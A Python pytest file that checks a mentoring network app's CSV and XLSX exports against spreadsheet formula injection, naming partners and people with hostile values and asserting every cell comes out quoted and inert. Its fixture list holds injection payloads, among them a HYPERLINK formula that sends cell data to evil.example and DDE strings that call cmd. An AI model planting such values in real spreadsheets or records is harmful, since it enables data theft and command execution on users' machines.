"""No file the app writes runs a formula: every export route is walked with partners and people
named as an attacker would name them, and every cell of every CSV and XLSX is checked."""
import ast
import csv
import io
import re
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from config import PROJECT_ROOT
from network.core.extensions import db
from network.core.spreadsheets import FORMULA_STARTS, csv_bytes, xlsx_bytes
from network.core.tenancy import tenant_context
from network.core.tenancy.models import Tenant
from tests.dashboards.history import History, make_network
from tests.factories import login, make_mentee, make_mentor

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Lisboa")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SPREADSHEET_TYPES = {"text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
PERIOD = "from=2025-01&to=2026-12"
LONG_PERIOD = "from=2023-01&to=2026-06"  # longer than EXPORT_JOB_MONTHS: prepared by a job


@pytest.fixture
def hostile_network(app):
    """Four partners named as formulas, with a history (so they have rows in the exports), and
    a mentor and a mentee named as one."""
    with app.app_context():
        network = make_network()
        history = History(network, 5)
        for _ in range(50):
            history.step()
        for partner, name in zip(network.partners, HOSTILE):
            db.session.execute(sa.update(Tenant).where(Tenant.id == partner.id).values(name=name))
        first = network.partners[0]
        with tenant_context(first.id):
            # Through the forms' services: the names pass validation as any text does.
            ids = {"mentor": make_mentor(HOSTILE[0], email="m1@example.pt").id,
                   "mentee": make_mentee(HOSTILE[0], email="m2@example.pt").id}
        db.session.commit()
        return {"coordination": network.coordination.slug, "coordinator": network.coordinator.email,
                "partner": first.slug, "staff": first.staff.email, "person_ids": ids}


def _cells_of(response):
    """Every cell of a CSV or XLSX response, as (text, is_formula)."""
    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        delimiter = ";" if text.splitlines()[0].count(";") else ","
        return [(cell, False) for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    workbook = load_workbook(io.BytesIO(response.data))
    return [(cell.value, cell.data_type == "f") for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def _assert_inert(label, response, expected_names):
    assert response.status_code == 200, label
    cells = _cells_of(response)
    for value, is_formula in cells:
        assert not is_formula, f"{label}: formula cell {value!r}"
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), f"{label}: {value!r}"
    texts = {value for value, _ in cells}
    for name in expected_names:
        assert "'" + name in texts, f"{label}: {name!r} is not in the file, neutralised"


def _download(client, path):
    started = client.get(path)
    if started.status_code == 302:  # a job prepared it: its page, then the file
        assert client.get(started.location).status_code == 200
        return client.get(started.location + "/download"), {"dashboards.export", "dashboards.export_status",
                                                            "dashboards.export_download"}
    return started, {"dashboards.export"}


def test_every_export_neutralises_formulas(app, client, hostile_network):
    walked = set()
    _walk_the_national_exports(client, hostile_network, walked)
    _walk_the_partner_exports(client, hostile_network, walked)

    every_export = {rule.endpoint for rule in app.url_map.iter_rules()
                    if re.search(r"export|download|\.csv|\.xlsx", rule.rule) and not rule.endpoint.startswith("api.")}
    assert walked == every_export, f"export routes not walked: {every_export - walked}"


def _walk_the_national_exports(client, hostile_network, walked):
    login(client, hostile_network["coordinator"], locale="pt_PT")
    for file_format in ("csv", "xlsx"):
        for period in (PERIOD, LONG_PERIOD):
            label = f"national {file_format} {period}"
            response, endpoints = _download(client, f"/t/{hostile_network['coordination']}/dashboard/export?"
                                                    f"format={file_format}&{period}")
            _assert_inert(label, response, HOSTILE[:4])
            walked |= endpoints
    for file_format in ("csv", "xlsx"):  # the impact figures' export (network.national.dashboards.impact_views)
        response = client.get(f"/t/{hostile_network['coordination']}/dashboard/impact/export?format={file_format}")
        _assert_inert(f"national impact {file_format}", response, [])
        walked.add("dashboards.impact_export")
    client.post("/logout")


def _walk_the_partner_exports(client, hostile_network, walked):
    login(client, hostile_network["staff"], locale="en")
    slug = hostile_network["partner"]
    for file_format in ("csv", "xlsx"):
        for period in (PERIOD, LONG_PERIOD):
            response, endpoints = _download(client, f"/t/{slug}/dashboard/export?format={file_format}&{period}")
            _assert_inert(f"partner {file_format} {period}", response, HOSTILE[:1])
            walked |= endpoints
        response = client.get(f"/t/{slug}/dashboard/impact/export?format={file_format}")
        _assert_inert(f"partner impact {file_format}", response, HOSTILE[:1])
    _walk_the_subject_access_exports(client, hostile_network, slug, walked)
    # The import templates hold the valid codes and their labels, no one's data: inert all the same.
    for endpoint, path in (("import_template_csv", "imports/template.csv?role=mentee"),
                           ("import_template_xlsx", "imports/template.xlsx?role=mentor"),
                           ("import_codes_csv", "imports/codes.csv?role=mentee")):
        _assert_inert(endpoint, client.get(f"/t/{slug}/{path}"), [])
        walked.add(f"participants.{endpoint}")


def _walk_the_subject_access_exports(client, hostile_network, slug, walked):
    # The subject-access export is JSON, for machines: no spreadsheet reads it as cells.
    assert all(hostile_network["person_ids"].values())
    for role, person_id in hostile_network["person_ids"].items():
        response = client.get(f"/t/{slug}/{role}s/{person_id}/privacy/export.json")
        assert response.status_code == 200, (role, person_id)
        assert response.mimetype == "application/json"
        assert response.mimetype not in SPREADSHEET_TYPES
        walked.add(f"privacy.{role}_export_json")
        # The printable export is a PDF a person is handed: no spreadsheet reads it either.
        response = client.get(f"/t/{slug}/{role}s/{person_id}/privacy/export.pdf")
        assert response.status_code == 200 and response.mimetype == "application/pdf", (role, person_id)
        walked.add(f"privacy.{role}_export_pdf")


def test_the_writers_keep_computed_numbers_and_quote_every_formula_start():
    rows = [["=1+1", 3, -2, 2.5, True, None, "#N/A", "Lisboa", "\r=1", "a=b"]]
    assert csv_bytes(rows).decode("utf-8-sig") == "'=1+1,3,-2,2.5,True,,#N/A,Lisboa,\"'\r=1\",a=b\r\n"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, "Folha"))).active
    cells = next(sheet.iter_rows())
    # (XML reads a carriage return as a line feed.)
    assert [cell.value for cell in cells] == ["'=1+1", 3, -2, 2.5, "True", None, "#N/A", "Lisboa", "'\n=1", "a=b"]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "n", "s", "n", "s", "s", "s", "s"]


def _writes_spreadsheets(tree):
    """Whether a module writes CSV or XLSX itself: csv.writer/DictWriter, or openpyxl's Workbook."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                isinstance(node.value, ast.Name) and node.value.id == "csv":
            return True
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl") and \
                any(alias.name in ("Workbook", "cell") for alias in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and node.module == "csv" and \
                any(alias.name in ("writer", "DictWriter") for alias in node.names):
            return True
    return False


def test_only_the_one_helper_writes_spreadsheets():
    writers = []
    for package in ("network", "tenants", "config"):
        for path in sorted(Path(PROJECT_ROOT, package).rglob("*.py")):
            if _writes_spreadsheets(ast.parse(path.read_text(encoding="utf-8"))):
                writers.append(str(path.relative_to(PROJECT_ROOT)))
    assert writers == ["network/core/spreadsheets.py"]
